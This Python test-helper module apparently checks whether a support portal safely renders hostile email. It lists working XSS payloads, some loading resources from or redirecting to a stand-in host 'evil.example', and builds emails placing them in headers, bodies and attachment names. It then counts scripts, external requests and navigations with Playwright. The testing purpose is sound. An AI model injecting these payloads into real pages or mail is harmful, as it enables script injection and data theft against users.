"""Hostile payloads, the mails they make, and a counter of what a page does that it should not.

``SERVELO_CORPORA`` names the corpora, else they are looked for beside the checkout; without them our own
cases are used alone. ``SERVELO_XSS_SAMPLE`` says how many of the corpus; ``SERVELO_PROOF``: all.
"""

from __future__ import annotations

import collections
import json
import os
import random
from email.headerregistry import Address
from email.message import EmailMessage
from pathlib import Path

from playwright.sync_api import Error, Frame, Page, Route

OWN = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a href='javascript:alert(1)'>x</a></svg>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<base href='https://evil.example/'><link rel=stylesheet href=a.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example><input name=password autofocus onfocus=alert(1)></form>",
    "<style>@import 'https://evil.example/a.css';*{background:url(https://evil.example/b)}</style>",
    "<div style='background:url(https://evil.example/c);position:fixed;inset:0'>x</div>",
    "<img src='https://evil.example/p.gif'><img srcset='https://evil.example/q.gif 1x'>",
    "<math><mtext></p><style><img src onerror=alert(1)></style></mtext></math>",
    "</textarea></title></iframe><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{constructor.constructor('alert(1)')()}} ${alert(1)}",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<object data='https://evil.example/x.swf'></object><embed src='https://evil.example/'>",
    "<img name=body><img id=getElementById><form id=cookie>",
    "\u202e<b>txt.exe\u2066",
]
HOOK = """for (const name of ["alert", "confirm", "prompt", "print", "msgbox"]) {
  Object.defineProperty(window, name, {value: () => window.__hit(name), configurable: true});
}"""
# In the page and in the mail's frame alike. A link may open a window when it is clicked, nothing else may.
_POKE = """() => {
  const types = ["pointerover", "mouseover", "mouseenter", "mousemove", "focus", "focusin", "mousedown",
    "mouseup", "contextmenu", "wheel", "animationstart", "toggle", "input", "change", "copy", "paste"];
  for (const node of document.querySelectorAll("ROOTS")) {
    for (const type of types) node.dispatchEvent(new MouseEvent(type, {bubbles: true, cancelable: true}));
    if (!node.closest("a, button, summary, dialog")) node.click?.();
  }
}"""
_LEFT = """() => document.querySelectorAll(
  "script, form, input, textarea, select, button, object, embed, iframe, base, link, meta[http-equiv=refresh]"
).length"""


def corpus(usual: int, most: int | None = None) -> list[str]:
    """Return *usual* payloads of one seeded order; all (at most *most*) when asked, none without a corpus."""
    named = os.environ.get("SERVELO_CORPORA")
    folder = Path(named) if named else Path(__file__).resolve().parents[3] / "shared" / "corpora"
    file = folder / "xss" / "dev.jsonl"
    if not file.is_file():
        return []
    found = [json.loads(line)["payload"] for line in file.read_text().splitlines()]
    wanted = int(os.environ.get("SERVELO_XSS_SAMPLE") or usual)
    if os.environ.get("SERVELO_PROOF") and "SERVELO_XSS_SAMPLE" not in os.environ:
        wanted = len(found)
    return random.Random(4).sample(found, len(found))[: min(wanted, most or wanted)]


def one_line(text: str) -> str:
    """What a header can carry: no line breaks, no lone surrogates."""
    return " ".join(text.encode("utf-8", "replace").decode().replace("\x00", "").split())


def hostile_mail(payload: str | list[str], address: str) -> EmailMessage:
    """A mail of one payload everywhere, or of several: one file each, in text and HTML one after another."""
    several = [payload] if isinstance(payload, str) else payload
    line = one_line(" ".join(several))
    mail = EmailMessage()
    mail["From"] = Address(one_line(several[-1])[:180] or "x", addr_spec=address)
    mail["To"] = "support@acme.example"
    mail["Subject"] = line[:500] or "x"
    mail["Message-ID"] = f"<{address}>"
    mail["X-Auto-Response-Suppress"] = "All"  # a ticket all the same, without thousands of confirmations
    words = [each.encode("utf-8", "replace").decode() for each in several]
    mail.set_content("\n\n".join(words))
    html = words[0] if len(words) == 1 else "\n".join(f"<div>{each}</div>" for each in words)
    mail.add_alternative(html, subtype="html")
    for each in several:
        name = one_line(each)[:180] or "x"
        mail.add_attachment(b"x", maintype="application", subtype="octet-stream", filename=name)
    return mail


class Counter:
    """Counts what *page* does that it should not; ``at`` is what is looked at, for the report."""

    def __init__(self, page: Page, origin: str) -> None:
        self.page, self.origin = page, origin
        self.at: object = None
        self.hits: list[tuple[str, object, str]] = []
        page.expose_binding("__hit", lambda _, kind: self.hit("script", kind))
        page.add_init_script(HOOK)
        page.on("dialog", lambda dialog: (self.hit("script", "dialog"), dialog.dismiss()))
        page.on("popup", lambda opened: (self.hit("popup", opened.url), opened.close()))
        page.context.route("**/*", self._request)  # what the CSP refuses never comes here
        page.on("framenavigated", self._moved)

    def hit(self, kind: str, what: str) -> None:
        self.hits.append((kind, self.at, what[:80]))

    def counts(self) -> dict[str, int]:
        found = collections.Counter(kind for kind, _, _ in self.hits)
        return {kind: found[kind] for kind in ("script", "external", "navigation", "popup", "form")}

    def _request(self, route: Route) -> None:
        url = route.request.url
        if url.startswith((self.origin + "/", "data:", "about:", "blob:")):
            route.continue_()
        else:
            self.hit("external", url)
            route.abort()

    def _moved(self, frame: Frame) -> None:
        if not frame.url.startswith((f"{self.origin}/tickets", "about:")):
            self.hit("navigation", frame.url)

    def touch(self, roots: str = "article *") -> None:
        """Hover, focus and click everything but what a person would open: links, buttons, folded parts."""
        self.page.evaluate(_POKE.replace("ROOTS", roots))

    def touch_frames(self) -> int:
        """Do so in each mail's frame, count what a mail may not have there; return the number of frames."""
        frames = self.page.locator("article iframe").element_handles()
        for handle in frames:
            frame = handle.content_frame()
            assert frame is not None
            frame.wait_for_load_state()
            left = frame.evaluate(_LEFT)
            if left:
                self.hit("form", f"{left} elements that a mail may not have")
            try:
                frame.evaluate(_POKE.replace("ROOTS", "body *"))
            except Error as error:  # the frame went elsewhere
                self.hit("navigation", str(error))
        return len(frames)


def go_to(page: Page, path: str) -> None:
    """As the portal's own links do it: without loading the page anew."""
    page.evaluate(
        "path => { history.pushState(null, '', path); dispatchEvent(new PopStateEvent('popstate')); }", path
    )


def unfold(page: Page) -> None:
    page.evaluate("for (const one of document.querySelectorAll('article details')) one.open = true")
